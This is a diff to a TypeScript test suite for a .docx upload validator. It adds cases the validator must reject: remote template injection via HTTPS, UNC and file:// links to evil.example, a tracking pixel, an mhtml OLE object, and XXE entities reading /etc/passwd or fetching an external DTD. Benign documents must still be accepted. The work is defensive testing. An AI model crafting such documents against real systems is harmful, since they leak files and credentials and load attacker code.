@@ -48,6 +48,12 @@ function zip(entries: Record<string, Buffer | string>): Buffer {
 const contentTypes =
   '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
 const word = { '[Content_Types].xml': contentTypes, 'word/document.xml': '<w:document/>' }
+/** One that names something outside of itself. */
+const related = (type: string, target: string, before = '') =>
+  zip({
+    ...word,
+    'word/_rels/settings.xml.rels': `<?xml version="1.0"?>${before}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+  })
 
 describe('sniff', () => {
   it.each<[FileKind, Buffer]>([
@@ -83,7 +89,42 @@ describe('sniff', () => {
     ['a document that climbs out', zip({ ...word, '../../x': 'x' })],
     ['a bomb', zip({ ...word, 'word/media/a.bin': Buffer.alloc(20_000_000) })],
     ['a document that was cut off in its directory', zip(word).subarray(0, -30)],
+    ['a template of a server', related('attachedTemplate', 'https://evil.example/a.dotm')],
+    ['a template of a share', related('attachedTemplate', '\\\\evil.example\\a\\b.dotm')],
+    ['the same as an address', related('attachedTemplate', 'file://evil.example/a/b.dotm')],
+    ['the same with more slashes', related('attachedTemplate', 'file:////evil.example/b.dotm')],
+    ['a template, written in signs', related('attachedTemplate', '&#104;ttps://evil.example/a')],
+    ['a picture of a server', related('image', 'http://evil.example/pixel.png')],
+    ['an object of a server', related('oleObject', 'mhtml:http://evil.example/x!x-usc:y')],
+    [
+      'a document type',
+      zip({
+        ...word,
+        'word/document.xml':
+          '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>',
+      }),
+    ],
+    [
+      'a document type in UTF-16',
+      zip({
+        ...word,
+        'word/styles.xml': Buffer.from(
+          '\ufeff<!DOCTYPE x SYSTEM "http://evil.example">',
+          'utf16le',
+        ),
+      }),
+    ],
   ])('refuses %s', async (_name, bytes) => {
     expect(await sniff(bytes, every)).toBeUndefined()
+  })
+
+  it.each<[string, Buffer]>([
+    ['links to click', related('hyperlink', 'https://ann.example')],
+    ['the template of a disk', related('attachedTemplate', 'file:///C:\\Users\\Ann\\CV.dotx')],
+    ['the template of a Mac', related('attachedTemplate', 'file:///Users/ann/CV.dotx')],
+    ['the usual template', related('attachedTemplate', 'Normal.dotm')],
+    ['an empty part', zip({ ...word, 'word/people.xml': '' })],
+  ])('takes a document with %s', async (_name, bytes) => {
+    expect(await sniff(bytes, every)).toBe('docx')
   })
 })
